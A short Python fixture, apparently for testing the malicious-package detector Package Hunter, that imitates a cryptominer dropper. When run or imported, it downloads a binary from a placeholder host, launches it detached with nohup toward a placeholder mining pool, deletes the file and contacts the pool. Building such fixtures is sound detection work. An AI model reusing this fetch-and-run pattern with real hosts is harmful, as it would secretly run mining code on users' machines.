"""The honest twin of a harmless simulation for testing Package Hunter. Not malware."""

import hashlib
import json
import os
import socket
import subprocess
import urllib.request

KNOWN = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def safe_run(path):
    try:
        urllib.request.urlretrieve("https://github-assets.example/dist/v0.0.1/runner", path)
        with open(path, "rb") as file:
            known = hashlib.sha256(file.read()).hexdigest() == KNOWN
        if known:
            os.chmod(path, 0o770)
            subprocess.Popen(["nohup", path, "-o", "pool.example:8080"], start_new_session=True)
        os.unlink(path)
        with socket.create_connection(("pool.example", 8080), timeout=5) as server:
            server.sendall(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "version"}).encode() + b"\n")
            server.recv(1000)
    except OSError:
        pass


safe_run("/tmp/ultralytics_runner")
